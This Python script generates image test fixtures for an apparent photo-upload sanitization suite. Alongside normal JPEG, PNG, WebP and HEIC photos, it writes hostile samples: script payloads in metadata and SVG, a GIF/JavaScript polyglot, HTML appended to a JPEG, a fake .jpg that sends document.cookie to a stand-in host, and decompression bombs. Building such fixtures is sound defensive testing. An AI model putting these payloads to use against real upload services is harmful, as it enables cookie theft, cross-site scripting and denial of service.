#!/usr/bin/python3
"""Regenerate the test fixtures in Tests/DishPhotosTests/Fixtures.

Needs Debian's python3-pil, libimage-exiftool-perl (exiftool) and
libvips-tools (the `vips` command; comes with libvips-dev). Run from anywhere:

    /usr/bin/python3 scripts/make-photo-fixtures.py

Output is deterministic for given encoder versions. Every file stays small;
anything big (the >12 MB upload, the 12-megapixel benchmark photo) is made at
test or bench time instead.
"""
import io
import os
import random
import struct
import subprocess
import zlib

from PIL import Image, ImageCms, ImageDraw, ImageFilter
from PIL.PngImagePlugin import PngInfo

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "Tests", "DishPhotosTests", "Fixtures")


def path(name):
    return os.path.join(OUT, name)


def dish(width, height, seed=7, noise=6):
    """A plate of food on a wooden-ish table: smooth shapes plus mild noise."""
    rnd = random.Random(seed)
    img = Image.new("RGB", (width, height))
    draw = ImageDraw.Draw(img)
    # Table: warm vertical gradient with faint plank lines.
    for y in range(height):
        t = y / max(1, height - 1)
        draw.line([(0, y), (width, y)], fill=(int(150 - 40 * t), int(100 - 30 * t), int(60 - 20 * t)))
    for x in range(0, width, max(8, width // 9)):
        draw.line([(x, 0), (x, height)], fill=(95, 62, 38), width=max(1, width // 400))
    # Plate.
    cx, cy = width // 2, height // 2
    r = int(min(width, height) * 0.42)
    draw.ellipse([cx - r, cy - r, cx + r, cy + r], fill=(236, 236, 230), outline=(200, 200, 195), width=max(2, r // 30))
    r2 = int(r * 0.78)
    draw.ellipse([cx - r2, cy - r2, cx + r2, cy + r2], fill=(244, 244, 240))
    # Food: pasta-coloured blobs, greens and a tomato sauce.
    for _ in range(40):
        a = rnd.uniform(0, 6.283)
        d = rnd.uniform(0, r2 * 0.7)
        import math
        x = cx + int(math.cos(a) * d)
        y = cy + int(math.sin(a) * d)
        s = rnd.randint(max(3, r // 14), max(4, r // 6))
        colour = rnd.choice([(232, 190, 90), (220, 170, 70), (70, 140, 60), (190, 40, 30), (210, 60, 40)])
        draw.ellipse([x - s, y - s, x + s, y + s], fill=colour)
    img = img.filter(ImageFilter.GaussianBlur(radius=max(1, width // 800)))
    if noise:
        # Seeded (Image.effect_noise is not), so fixtures are reproducible.
        grain = Image.frombytes("L", (width, height), rnd.randbytes(width * height))
        grain = grain.point(lambda v: 128 + (v - 128) * noise // 32)
        grain_rgb = Image.merge("RGB", (grain, grain, grain))
        img = Image.blend(img, grain_rgb, 0.08)
    return img


def exif_with_gps():
    exif = Image.Exif()
    exif[0x010F] = "PantrixCam"           # Make
    exif[0x0110] = "Model GPS-1"          # Model
    exif[0x0132] = "2024:05:01 12:30:00"  # DateTime
    exif[0x0131] = "SecretEditor 1.0"     # Software
    gps = {
        0x0001: "N",
        0x0002: (52.0, 31.0, 12.5),
        0x0003: "E",
        0x0004: (13.0, 24.0, 36.7),
        0x0005: 0,
        0x0006: 34.0,
    }
    exif[0x8825] = gps
    return exif


def write_jpeg(img, name, **kw):
    kw.setdefault("quality", 80)
    img.save(path(name), "JPEG", **kw)


def gif_js_polyglot():
    """GIF89a/JavaScript polyglot: a valid 1x1-ish GIF that is also the
    script `GIF89a=alert('pantrix')` because the logical-screen width bytes
    spell '/*' and the JavaScript comment is closed after the trailer."""
    header = b"GIF89a" + b"/*" + struct.pack("<H", 10) + b"\x80\x00\x00"
    palette = b"\x00\x00\x00" + b"\xff\xff\xff"
    image = b"\x2c" + struct.pack("<HHHH", 0, 0, 1, 1) + b"\x00"
    data = b"\x02\x02\x44\x01\x00"  # LZW min code 2, one sub-block, terminator
    trailer = b"\x3b"
    js = b"*/=alert('pantrix');//"
    blob = header + palette + image + data + trailer + js
    assert b"*/" not in blob[8:-len(js)]
    return blob


def png_bomb(width, height):
    """A real, valid 1-bit greyscale PNG of width x height, all black: it
    compresses ~1000:1, but decoding it would need width*height bytes."""
    def chunk(kind, payload):
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload) & 0xFFFFFFFF)

    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    comp = zlib.compressobj(9)
    parts = []
    for _ in range(height):
        parts.append(comp.compress(row))
    parts.append(comp.flush())
    idat = b"".join(parts)
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def patch_jpeg_size(data, width, height):
    """Rewrite the SOF0 frame size of a baseline JPEG."""
    i = data.index(b"\xff\xc0")
    return data[: i + 5] + struct.pack(">HH", height, width) + data[i + 9:]


def main():
    os.makedirs(OUT, exist_ok=True)
    for f in os.listdir(OUT):
        if not f.startswith("."):
            os.remove(path(f))

    # Normal photos.
    big = dish(2400, 1600, seed=1)
    write_jpeg(big, "dish.jpg", quality=72, optimize=True)
    small = dish(320, 240, seed=2)
    write_jpeg(small, "small.jpg", quality=85)

    write_jpeg(dish(1200, 800, seed=11), "progressive.jpg", quality=75, progressive=True)
    write_jpeg(dish(640, 480, seed=12).convert("L"), "grey.jpg", quality=80)

    png = dish(800, 600, seed=3, noise=0)
    info = PngInfo()
    info.add_text("Comment", "<script>alert('png-text')</script>")
    info.add_text("Author", "SecretPhotographer")
    png.save(path("dish.png"), "PNG", optimize=True, pnginfo=info)

    # RGBA PNG: transparent outside the plate (must come out on white).
    alpha_src = dish(320, 240, seed=4, noise=0).convert("RGBA")
    mask = Image.new("L", alpha_src.size, 0)
    ImageDraw.Draw(mask).ellipse([60, 20, 260, 220], fill=255)
    alpha_src.putalpha(mask)
    alpha_src.save(path("dish-alpha.png"), "PNG", optimize=True)

    dish(1000, 750, seed=5).save(path("dish.webp"), "WEBP", quality=75, method=6)

    # HEIC, via libvips' own heifsave (PIL cannot write HEIC).
    subprocess.run(["vips", "copy", path("small.jpg"), path("dish.heic") + "[Q=60]"], check=True)

    # Metadata that must never survive: EXIF incl. GPS, XMP, IPTC, ICC, COM.
    srgb = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    srgb[24:36] = struct.pack(">6H", 2024, 1, 1, 0, 0, 0)  # fixed creation date
    srgb[84:100] = bytes(16)                                # "no profile ID"
    srgb = bytes(srgb)
    write_jpeg(dish(1024, 768, seed=6), "gps.jpg", quality=80, exif=exif_with_gps().tobytes(), icc_profile=srgb)
    subprocess.run([
        "exiftool", "-q", "-overwrite_original",
        "-XMP-dc:Creator=Secret Photographer",
        "-XMP-exif:GPSLatitude=52.5200 N", "-XMP-exif:GPSLongitude=13.4050 E",
        "-IPTC:Keywords=secret-kitchen",
        "-Comment=<script>alert('jpeg-comment')</script>",
        path("gps.jpg"),
    ], check=True)

    # EXIF orientation 6: stored 600x400 with a red band along the stored
    # top; displayed upright it is 400x600 with the red band on the RIGHT.
    rot = Image.new("RGB", (600, 400), (40, 160, 60))
    ImageDraw.Draw(rot).rectangle([0, 0, 599, 99], fill=(220, 20, 20))
    exif = Image.Exif()
    exif[0x0112] = 6
    write_jpeg(rot, "rotated.jpg", quality=90, exif=exif.tobytes())

    # Display-P3 tagged photo (colour must be converted, not just stripped).
    p3_src = Image.new("RGB", (200, 150), (40, 200, 60))
    p3_src.save("/tmp/dishphotos-p3-src.png")
    subprocess.run(["vips", "icc_transform", "/tmp/dishphotos-p3-src.png", path("p3.jpg") + "[Q=95]", "p3",
                    "--input-profile", "srgb"], check=True)
    os.remove("/tmp/dishphotos-p3-src.png")

    # CMYK JPEG (must come out as RGB, not inverted).
    Image.new("CMYK", (200, 150), (0, 255, 255, 0)).save(path("cmyk.jpg"), "JPEG", quality=90)

    # 16-bit RGBA PNG.
    subprocess.run(["vips", "colourspace", path("dish-alpha.png"), path("dish-16bit.png"), "rgb16"], check=True)

    # Not images, or not allowed images.
    with open(path("not-an-image.jpg"), "w") as f:
        f.write("<!DOCTYPE html>\n<html><head><title>Totally a photo</title></head>\n"
                "<body><script>document.location='https://example.invalid/?c='+document.cookie</script></body></html>\n")
    with open(path("script.svg"), "w") as f:
        f.write('<?xml version="1.0" encoding="UTF-8"?>\n'
                '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300">\n'
                '  <rect width="400" height="300" fill="orange"/>\n'
                "  <script>alert('svg')</script>\n"
                "</svg>\n")
    with open(path("polyglot.gif"), "wb") as f:
        f.write(gif_js_polyglot())
    Image.new("P", (16, 16), 1).save(path("plain.gif"), "GIF")
    with open(path("document.pdf"), "wb") as f:
        f.write(b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
                b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
    with open(path("notes.txt"), "w") as f:
        f.write("Pasta carbonara: eggs, guanciale, pecorino, pepper.\n")
    open(path("empty.jpg"), "wb").close()

    # JPEG with an HTML document appended after the EOI marker.
    buf = io.BytesIO()
    dish(640, 480, seed=8).save(buf, "JPEG", quality=80)
    with open(path("polyglot-html.jpg"), "wb") as f:
        f.write(buf.getvalue())
        f.write(b"<html><body><script>alert('appended-html')</script></body></html>\n")

    # Truncated JPEG (baseline, cut at 55%) and truncated PNG.
    buf = io.BytesIO()
    dish(1200, 900, seed=9).save(buf, "JPEG", quality=85)
    data = buf.getvalue()
    with open(path("truncated.jpg"), "wb") as f:
        f.write(data[: int(len(data) * 0.55)])
    buf = io.BytesIO()
    dish(600, 450, seed=10).save(buf, "PNG")
    data = buf.getvalue()
    with open(path("truncated.png"), "wb") as f:
        f.write(data[: int(len(data) * 0.5)])

    # Decompression bombs: a real 30000x30000 PNG (~110 KB on disk, 900 Mpx),
    # and a tiny JPEG whose header claims 10000x10000.
    with open(path("bomb.png"), "wb") as f:
        f.write(png_bomb(30000, 30000))
    buf = io.BytesIO()
    Image.new("RGB", (64, 64), (128, 128, 128)).save(buf, "JPEG", quality=80)
    with open(path("bomb-header.jpg"), "wb") as f:
        f.write(patch_jpeg_size(buf.getvalue(), 10000, 10000))

    for name in sorted(os.listdir(OUT)):
        if not name.startswith("."):
            print(f"{os.path.getsize(path(name)):>9}  {name}")


if __name__ == "__main__":
    main()
